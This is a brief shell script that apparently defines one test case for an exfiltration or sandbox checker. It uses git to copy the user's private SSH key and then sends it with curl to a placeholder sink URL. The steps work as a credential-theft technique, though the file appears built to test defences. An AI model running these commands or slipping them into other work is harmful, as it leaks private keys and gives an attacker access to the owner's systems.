# SPDX-License-Identifier: Apache-2.0
TITLE="git, which keeps the labels of its own files to itself, is made to copy a key"
CLASS=ssh-key SECRET=.ssh/id_ed25519 DEST="$SINK4:80" NEEDS="git curl"
attack() {
	git init -q r && cd r && cp "$HOME/.ssh/id_ed25519" k && git add k && git cat-file blob :k >../copy
	curl -s -m 5 --data-binary @../copy "$URL/"
}
